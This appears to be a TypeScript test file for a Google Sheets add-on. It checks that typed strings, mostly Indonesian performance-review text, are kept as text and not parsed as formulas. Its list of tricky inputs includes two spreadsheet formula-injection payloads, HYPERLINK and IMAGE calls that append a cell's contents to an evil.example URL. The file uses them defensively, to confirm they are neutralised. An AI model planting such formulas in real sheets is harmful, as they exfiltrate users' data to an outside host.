// What setValues makes of a string (the emulator modelling Sheets, cited in
// src/local/emulator/cell-input.ts), and the add-on's rules that keep text text and formulas
// formulas (src/sheets/values.ts), checked against that model: a rule that let a formula through
// would fail here because the emulator makes it one, as Sheets does.
import {setup} from '../emulator/setup';
import {
  keptInput,
  keptInputs,
  parsesAsOther,
  tabTextColumns,
  textInput,
} from '../../src/sheets/values';
import {HEADERS} from '../../src/sheets/schema';

const TRICKY = [
  '=HYPERLINK("http://evil.example/?"&B2,"x")',
  '=IMAGE("http://evil.example/?"&B2)',
  '=Tidak sesuai target utama',
  "'sudah pakai apostrof",
  '+62 812 3456',
  '+5',
  '-3',
  '−3',
  '@siti',
  ' 12',
  '0012',
  '87,5',
  '1.250',
  '50%',
  'TRUE',
  'false',
  '14/03/2026',
  '2026-03-14',
  '2026-TW1',
  '1.1',
  '$100',
  'Rp 5000',
  'Mar 14 2026',
  'Siti = baik',
  'Surat selesai',
];

describe('setValues in the emulator, as Sheets parses typed text', () => {
  it.each([
    ['=1+1', {formula: '=1+1'}],
    ['=HYPERLINK("http://x")', {formula: '=HYPERLINK("http://x")'}],
    ["'=1+1", {value: '=1+1', formula: ''}],
    ['+62 812', {value: '+62 812', formula: ''}],
    ['+5', {value: 5, formula: ''}],
    ['-abc', {value: '-abc', formula: ''}],
    ['@siti', {value: '@siti', formula: ''}],
  ])('%j in an automatic cell', (text, expected) => {
    const {sheet} = setup();
    sheet.getRange('A1').setValues([[text]]);
    const cell = sheet.getRange('A1');
    if ('value' in expected) expect(cell.getValue()).toBe(expected.value);
    expect(cell.getFormula()).toBe(expected.formula);
  });

  it("keeps '=...' as text in a plain-text ('@') cell, apostrophe included", () => {
    const {sheet} = setup();
    const range = sheet.getRange('A1:B1');
    range.setNumberFormat('@');
    range.setValues([['=1+1', "'kutip"]]);
    expect(range.getFormulas()).toEqual([['', '']]);
    expect(range.getValues()).toEqual([['=1+1', "'kutip"]]);
  });
});

describe('textInput', () => {
  it.each(TRICKY)('%j is stored as exactly that text', text => {
    const {ss, sheet} = setup();
    ss.setSpreadsheetLocale('id_ID');
    sheet.getRange('A1').setValues([[textInput(text)]]);
    expect(sheet.getRange('A1').getFormula()).toBe('');
    expect(sheet.getRange('A1').getValue()).toBe(text);
  });

  it('leaves plain words alone (no apostrophe where none is needed)', () => {
    expect(textInput('Surat selesai')).toBe('Surat selesai');
    expect(textInput('Siti = baik')).toBe('Siti = baik');
    expect(parsesAsOther('Dedi Kurniawan')).toBe(false);
    expect(textInput('')).toBe('');
  });
});

describe('keptInput: a cell written back holds what it held', () => {
  it('a formula stays a formula, text stays text, numbers and dates as read', () => {
    const date = new Date('2026-03-14T00:00:00Z');
    expect(keptInput(10, '=SUM(J2:K2)')).toBe('=SUM(J2:K2)');
    expect(keptInput('=Tidak sesuai', '')).toBe("'=Tidak sesuai");
    expect(keptInput('=Tidak sesuai', '', '@')).toBe('=Tidak sesuai');
    expect(keptInput('0012', '', '@')).toBe('0012');
    expect(keptInput(12.5)).toBe(12.5);
    expect(keptInput(date)).toBe(date);
  });

  it('round trip through the emulator: values, formulas and formats as before', () => {
    const {sheet} = setup();
    const range = sheet.getRange('A1:D3');
    range.setNumberFormats([
      ['@', '@', '@', '@'],
      ['0.###', '@', '0.###', '0.###'],
      ['0.###', '0.###', '0.###', '0.###'],
    ]);
    range.setValues([
      ['Realisasi', 'Alasan', 'Catatan', 'Lain'],
      [5, '=teks di kolom teks', "'=Tidak sesuai target utama", '=A2*2'],
      ["'0012", "'14/03/2026", 'biasa', "'TRUE"],
    ]);
    const before = {
      values: range.getValues(),
      formulas: range.getFormulas(),
    };
    range.setValues(
      keptInputs(
        range.getValues(),
        range.getFormulas(),
        range.getNumberFormats(),
        () => true,
      ),
    );
    expect(range.getValues()).toEqual(before.values);
    expect(range.getFormulas()).toEqual(before.formulas);
    expect(before.formulas[1][3]).toBe('=A2*2');
    expect(before.values[1][2]).toBe('=Tidak sesuai target utama');
  });

  it('tabTextColumns: the copied texts (not Target nor the inputs) are the plain-text columns', () => {
    const header = [...HEADERS.penilaian];
    expect([...tabTextColumns(header)].map(c => header[c])).toEqual([
      'Periode',
      'NIP',
      'Nama',
      'Jenis',
      'Kode',
      'Uraian',
      'Satuan',
    ]);
    // Found by header text, in any order.
    expect([...tabTextColumns(['Catatan', 'nama', 'Realisasi'])]).toEqual([1]);
  });
});
